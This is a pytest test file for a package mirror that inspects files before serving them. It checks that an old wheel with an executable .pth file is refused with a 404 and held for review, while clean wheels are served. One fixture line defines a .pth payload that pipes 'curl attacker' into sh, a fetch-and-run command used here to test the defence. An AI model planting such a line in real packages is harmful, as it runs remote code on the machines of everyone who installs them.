"""Every file is inspected before its first byte is served (docs/admission.md, "Refusals").

History (files already older than the quarantine when the mirror first reads a project) is
admitted without checks; its first download inspects it, as a candidate would have been, and
a flagged file answers 404 with the reason, is held for review and leaves the page.
"""

import json
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from flask.testing import FlaskClient

from mirror.app import create_app
from mirror.db import event_rows, file_rows
from mirror.db.engine import writing
from mirror.policy.admission import State
from mirror.scheduler import run_cycle
from mirror.services import evidence
from mirror.services.backends import Backends
from tests.support.fake_upstream import FakeUpstream

OLD = datetime.now(UTC) - timedelta(days=30)
JSON = {"Accept": "application/vnd.pypi.simple.v1+json"}
CLEAN = "demo-1.0-py3-none-any.whl"
EVIL = "demo-1.1-py3-none-any.whl"
PAYLOAD = {"demo_evil.pth": "import os; os.system('curl attacker | sh')\n"}


def listed(client: FlaskClient) -> list[str]:
    page = json.loads(client.get("/simple/demo/", headers=JSON).data)
    return [f["filename"] for f in page["files"]]


def file_row(backends: Backends, filename: str):  # type: ignore[no-untyped-def]
    with backends.engine.connect() as conn:
        return file_rows.file_by_name(conn, "demo", filename)


def target_url(backends: Backends, filename: str) -> str:
    return f"/tuf/targets/packages/demo/{file_row(backends, filename).sha256}.{filename}"


@pytest.mark.parametrize("route", ["file", "target"])
def test_a_history_file_with_an_executable_pth_is_never_served(
    make_backends: Callable[..., Backends],
    fake_upstream: FakeUpstream,
    tmp_path: Path,
    route: str,
) -> None:
    fake_upstream.publish_release("demo", "1.0", tmpdir=tmp_path, upload_time=OLD)
    fake_upstream.publish_release("demo", "1.1", tmpdir=tmp_path, upload_time=OLD, pth=PAYLOAD)
    backends = make_backends()
    client = create_app(backends.config, backends).test_client()
    assert listed(client) == [CLEAN, EVIL]  # history: admitted at the first look, unchecked
    url = f"/packages/demo/{EVIL}" if route == "file" else target_url(backends, EVIL)

    response = client.get(url)
    assert response.status_code == 404
    assert "held for review" in response.get_data(as_text=True)
    assert "demo_evil.pth" in response.get_data(as_text=True)
    assert client.get(url).status_code == 404  # and on every later request

    row = file_row(backends, EVIL)
    assert (row.state, row.hold_until) == (State.QUARANTINED, None)
    assert row.evidence["content"]["baseline"] == CLEAN  # compared as a candidate would be
    with backends.engine.connect() as conn:
        event = event_rows.project_events(conn, "demo")[0]
    assert (event.filename, event.from_state, event.to_state) == (EVIL, "admitted", "quarantined")
    run_cycle(backends, [])
    assert listed(client) == [CLEAN]


def test_a_clean_history_file_is_inspected_once_and_served(
    make_backends: Callable[..., Backends], fake_upstream: FakeUpstream, tmp_path: Path
) -> None:
    fake = fake_upstream.publish_release("demo", "1.0", tmpdir=tmp_path, upload_time=OLD)
    backends = make_backends()
    client = create_app(backends.config, backends).test_client()
    assert listed(client) == [CLEAN]
    assert client.get(f"/packages/demo/{CLEAN}").data == fake.content
    assert file_row(backends, CLEAN).evidence["content"]["flags"] == []
    assert client.get(f"/packages/demo/{CLEAN}").data == fake.content
    assert file_row(backends, CLEAN).state == State.ADMITTED


def test_a_first_downloads_check_gathers_what_checking_every_file_gathers(
    make_backends: Callable[..., Backends], fake_upstream: FakeUpstream, tmp_path: Path
) -> None:
    """The check reads the file and the release it is compared with, not the project's
    thousands: it gathers what the general path, over every file, gathers."""
    for version in ["0.9", "1.0", "1.0.1", "1.1"]:
        pth = PAYLOAD if version == "1.1" else None
        fake_upstream.publish_release("demo", version, tmpdir=tmp_path, upload_time=OLD, pth=pth)
    backends = make_backends()
    client = create_app(backends.config, backends).test_client()
    assert len(listed(client)) == 4
    # The release below the newest one is blocked: the baseline is the one below it.
    with writing(backends.engine) as conn:
        blocked = file_rows.file_by_name(conn, "demo", "demo-1.0.1-py3-none-any.whl")
        file_rows.update_file(conn, blocked, state=State.BLOCKED)
    baselines = {}
    for filename in [EVIL, CLEAN, "demo-0.9-py3-none-any.whl"]:
        now = backends.clock.now()
        every = evidence._Gatherer(backends, "demo", evidence._project_files(backends, "demo"), now)
        every.content(only=filename)
        gathered = evidence.inspect_before_serving(backends, "demo", filename)
        assert _undated(gathered.records) == _undated(every.gathered.records)
        assert gathered.copies == every.gathered.copies
        baselines[filename] = gathered.records[filename]["content"]["baseline"]
    assert baselines == {
        EVIL: CLEAN,
        CLEAN: "demo-0.9-py3-none-any.whl",
        "demo-0.9-py3-none-any.whl": None,
    }


def _undated(records: dict[str, dict[str, Any]]) -> dict[str, dict[str, Any]]:
    return {
        filename: {key: {**value, "inspected_at": None} for key, value in record.items()}
        for filename, record in records.items()
    }
